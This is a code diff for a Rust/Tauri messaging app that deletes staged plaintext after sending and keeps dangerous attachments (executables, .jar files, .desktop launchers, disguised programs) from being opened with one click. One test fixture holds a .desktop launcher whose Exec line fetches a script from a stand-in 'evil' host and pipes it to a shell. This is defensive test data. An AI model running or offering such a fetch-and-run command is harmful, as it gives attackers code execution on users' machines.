@@ -59,7 +59,11 @@ pub async fn send_file(
     let engine = state.engine().await?;
     let path = staged(&state, &path)?;
     let (account, peer) = (parse::address(&account)?, parse::address(&peer)?);
-    Ok(engine.send_file(&account, &peer, &path, &caption, as_file).await?)
+    let sent = engine.send_file(&account, &peer, &path, &caption, as_file).await;
+    // The engine keeps its own encrypted copy; the plaintext goes now, sent or refused (a
+    // refused file is staged again when the person tries again).
+    state.discard_staged(&path);
+    Ok(sent?)
 }
 
 #[tauri::command]
@@ -92,8 +96,28 @@ pub async fn save_attachment(
     Ok(engine.save_attachment(conversation_id, message_id, index, &downloads(&app)?).await?)
 }
 
-/// Saves, then opens with the system's app for its type. A file whose name lies about its
-/// content (a program called `.jpg`) is shown in its folder instead of being run.
+/// What "Open" does with a saved attachment.
+#[derive(Debug, PartialEq, Eq)]
+enum Opening {
+    /// Hand it to the system's app for its type.
+    Open,
+    /// Show it in its folder: the system's opener would run it, or its name lies about it.
+    Reveal,
+}
+
+/// Only passive files whose content matches their name are opened (the engine's
+/// `SavedAttachment::opens`); a `.jar`, a `.desktop` launcher, a script or a program called
+/// `.jpg` never reaches the opener, which would run it with one click.
+fn opening(saved: &SavedAttachment) -> Opening {
+    if saved.opens && !saved.extension_mismatch {
+        Opening::Open
+    } else {
+        Opening::Reveal
+    }
+}
+
+/// Saves, then opens with the system's app for its type, or shows it in its folder (see
+/// [`opening`]). The page tells the person which happened from `opens`.
 #[tauri::command]
 pub async fn open_attachment(
     app: AppHandle,
@@ -101,15 +125,15 @@ pub async fn open_attachment(
     conversation_id: ConversationId,
     message_id: MessageId,
     index: u32,
-) -> CommandResult<()> {
+) -> CommandResult<SavedAttachment> {
     let engine = state.engine().await?;
     let saved = engine.save_attachment(conversation_id, message_id, index, &downloads(&app)?).await?;
-    let opened = if saved.extension_mismatch {
-        app.opener().reveal_item_in_dir(&saved.path)
-    } else {
-        app.opener().open_path(saved.path.to_string_lossy(), None::<&str>)
+    let opened = match opening(&saved) {
+        Opening::Reveal => app.opener().reveal_item_in_dir(&saved.path),
+        Opening::Open => app.opener().open_path(saved.path.to_string_lossy(), None::<&str>),
     };
-    opened.map_err(|error| CommandError::new(ErrorCode::Internal, format!("the system could not open it: {error}")))
+    opened.map_err(|error| CommandError::new(ErrorCode::Internal, format!("the system could not open it: {error}")))?;
+    Ok(saved)
 }
 
 #[tauri::command]
@@ -123,6 +147,27 @@ pub async fn open_link(app: AppHandle, url: String) -> CommandResult<()> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn saved(name: &str, head: &[u8]) -> SavedAttachment {
+        SavedAttachment {
+            path: PathBuf::from(name),
+            extension_mismatch: names::extension_mismatch(name, head),
+            detected_type: names::detected_extension(head).map(str::to_owned),
+            opens: names::opens_safely(name, head),
+        }
+    }
+
+    #[test]
+    fn only_passive_files_reach_the_opener() {
+        assert_eq!(opening(&saved("holiday.jpg", b"\xff\xd8\xff\xe0")), Opening::Open);
+        assert_eq!(opening(&saved("tool.jar", b"PK\x03\x04")), Opening::Reveal, "a Java archive would run");
+        assert_eq!(
+            opening(&saved("game.desktop", b"[Desktop Entry]\nExec=curl evil | sh")),
+            Opening::Reveal,
+            "a launcher would run its Exec line"
+        );
+        assert_eq!(opening(&saved("cute.jpg", b"MZ\x90\x00")), Opening::Reveal, "a program named .jpg");
+    }
 
     #[test]
     fn staged_files_keep_a_safe_name_in_a_folder_of_their_own() {
